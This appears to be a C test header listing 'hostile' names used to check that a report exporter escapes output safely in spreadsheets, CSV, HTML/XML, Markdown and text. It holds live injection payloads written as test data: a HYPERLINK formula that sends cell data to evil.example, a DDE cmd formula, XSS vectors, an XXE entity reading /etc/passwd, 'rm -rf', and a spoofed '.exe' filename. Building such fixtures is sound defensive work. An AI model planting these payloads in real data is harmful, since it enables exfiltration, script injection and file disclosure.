/* hostile_names - names that some reader would take for more than a name: formulas, markup, quoting, order of writing, controls, letters
   that old code pages lack, and names of great length (hostile_document adds those). */
#ifndef TESTS_REPORT_HOSTILE_NAMES_H
#define TESTS_REPORT_HOSTILE_NAMES_H

static const char *const hostile_names[] = {
    /* spreadsheets */
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "'=1+1", "\t=1+1", "\r=1+1", "\n=1+1",
    "=1+1\";=1+1", "0012", "1e5", "2006-08-14", "1/2", "TRUE", "#REF!", "_x003D_1+1", "_x0041_", "=", "-", "@", "{=1+1}", "%0A=1+1",
    /* CSV */
    "a,b", "a\"b", "\"", "\"\"", "a;b", "a\nb", "a\r\nb", " a ", ",,,", "\",=1+1,\"",
    /* HTML and XML */
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>x</h1>", "\" onmouseover=\"alert(1)", "' onload='x", "&lt;b&gt;", "&#60;b&#62;", "&amp;",
    "<!-- x", "]]>", "<?xml version=\"1.0\"?>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "javascript:alert(1)", "</style><style>*{display:none}",
    "<svg onload=alert(1)>",
    /* Markdown */
    "a|b", "`rm -rf`", "![x](http://evil.example/x.png)", "[x](javascript:alert(1))", "# x", "- x", "1. x", "**x**", "~~x~~", "$x$", "http://evil.example/", "www.evil.example", "<http://evil.example>",
    "\\|", "> x", "---",
    /* letters */
    "\xE2\x80\xAEtxt.exe", "a\xE2\x80\x8F" "b", "\xE2\x81\xA6x\xE2\x81\xA9", "\x01\x02\x1F", "\x7F", "\x1B[31mred", "\xC2\x85", "\xEF\xBB\xBFx", "\xEF\xBF\xBE", "\xFF\xFE", "a\xC0\xAF" "b",
    "\xF0\x9F\x94\xA5\xF0\x9F\x8F\xAD", "\xF0\xA0\xAE\xB7\xE9\x87\x8E\xE5\xB1\x8B", "\xE9\xAB\x99\xE5\xB3\xB6\xE5\xB1\x8B", "\xC3\xA9\xC3\xB1\xC5\x93", "e\xCC\x81", "\xEF\xBC\x9D" "1+1", "\xE8\xA1\xA8\xE3\x82\xBD\xE5\x8D\x81",
};
enum { HOSTILE_NAMES = sizeof hostile_names / sizeof *hostile_names };
_Static_assert(HOSTILE_NAMES >= 60, "at least sixty");
#endif
